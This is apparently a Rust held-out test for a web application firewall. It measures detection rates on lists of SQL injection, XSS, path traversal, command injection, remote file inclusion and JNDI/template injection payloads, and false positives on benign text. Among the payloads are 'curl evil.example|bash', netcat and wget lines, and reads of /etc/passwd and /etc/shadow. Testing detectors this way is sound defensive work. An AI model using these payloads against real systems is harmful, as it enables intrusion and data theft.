//! Held-out check of the WAF tier: cases written after the detectors were tuned on the main
//! corpus and never tuned against. It prints its rates and asserts only loose floors, so it stays
//! an honest estimate (run with `--nocapture`).

use palisade::waf::{inspect, Config, Item, Location};

fn q(v: &str) -> bool {
    inspect(&[Item::new(Location::QueryArg, "q", v.as_bytes())], &Config::default()).over_threshold
}

#[test]
fn held_out_rates() {
    let attacks: &[(&str, &[&str])] = &[
        ("sqli", &["1' AnD 2>1 AnD '3'='3", "9999' or 'z' like 'z", "1 and 1 in (select 1)", "' ;select * from accounts where 'a'='a", "1%27%2F%2A%2A%2Fand%2F%2A%2A%2F1%3D1%23", "admin\" or \"1\"=\"1\"--", "1) union all select 1,2,3,4#", "' or true--", "1' procedure analyse()#", "1' and row(1,1)>(select count(*),concat(version(),0x3a,floor(rand()*2))x from information_schema.tables group by x)#"]),
        ("xss", &["<svg><script>alert(1)</script></svg>", "<img src=\"x\" oNeRrOr=\"confirm(1)\">", "<iframe/src=\"data:text/html,<svg onload=alert(1)>\">", "%3Cbody%20onpageshow%3Dalert(1)%3E", "<a href=javas&#99;ript:alert(1)>go</a>", "<object data=javascript:alert(1)>", "\"autofocus onfocus=alert(1) x=\"", "<style>@import 'javascript:alert(1)';</style>", "<isindex type=image src=1 onerror=alert(1)>", "<div onpointerenter=alert(1)>hover</div>"]),
        ("lfi", &["../../../../../../etc/passwd%00", "..%2F..%2F..%2Fboot.ini", "/var/www/../../etc/shadow", "..\\/..\\/..\\/etc/hosts", "%252E%252E%252F%252E%252E%252Fproc%252Fself%252Fenviron", "....\\\\....\\\\windows\\\\win.ini", "file=/etc/group", "/static/%2e%2e/%2e%2e/WEB-INF/classes/app.properties", "..%c1%9c..%c1%9cwindows", "/.git/HEAD"]),
        ("rce", &[";id;", "| whoami", "$(cat /etc/hosts)", "`uname -a`", "a && curl evil.example|bash", ";ping -c 3 x.example", "1|nc x.example 80", "%7C%7Cwhoami", "& systeminfo", "; /usr/bin/wget -O- http://x/a"]),
        ("rfi", &["http://203.0.113.5/r.txt?", "ftp://x.example/c99.txt", "php://filter/read=convert.base64-encode/resource=/etc/passwd", "expect://whoami", "zip://x.zip#y.php", "file:///c:/boot.ini", "https://x.example/shell.php?", "phar:///tmp/x.phar/a", "data://text/plain;base64,AAAA", "http://x.example/inject.txt%00"]),
        ("injection", &["${jndi:rmi://x/a}", "${${lower:jnd}${lower:i}:ldap://x/}", "<?php echo 1; ?>", "{{7*'7'}}", "${{7*7}}", "process.binding('spawn_sync')", "__proto__.polluted=1", "{{''.__class__.__bases__}}", "java.lang.Runtime.getRuntime().exec('id')", "<%= system('id') %>"]),
    ];
    let mut worst: f64 = 1.0;
    for (class, cases) in attacks {
        let hit = cases.iter().filter(|c| q(c)).count();
        for c in cases.iter().filter(|c| !q(c)) {
            println!("  held-out MISS {class}: {c:?}");
        }
        let rate = hit as f64 / cases.len() as f64;
        worst = worst.min(rate);
        println!("held-out {class:<10} {hit}/{}", cases.len());
    }
    let benign = [
        "Can you select two or three colours?",
        "Meet me at Union Square at 5",
        "I'd rather drop it; it's fine",
        "x > 3 and y < 4",
        "my email: o'hara@example.ie",
        "We <3 our users & partners",
        "https://example.com/?utm=a&ref=b",
        "Wait, what? Really?!",
        "He said: 'we'll see' -- and left",
        "cat & dog | bird",
        "Function(args) returns a value",
        "The script ran for 5 minutes",
        "Use #include <stdio.h> in C",
        "She's 5'4\" and loves SQL",
        "Echo Park; Los Angeles",
        "Download the .env.example template",
        "Order #5 or #6, whichever",
        "Java 21 and Node 20 are supported",
        "Price: 10 $ (ten dollars)",
        "See https://docs.example.com/guide?section=2",
    ];
    let fps: Vec<_> = benign.iter().filter(|b| q(b)).collect();
    println!(
        "held-out benign: {} of {} over threshold {fps:?}",
        fps.len(),
        benign.len()
    );
    assert!(worst >= 0.5, "held-out detection collapsed");
}
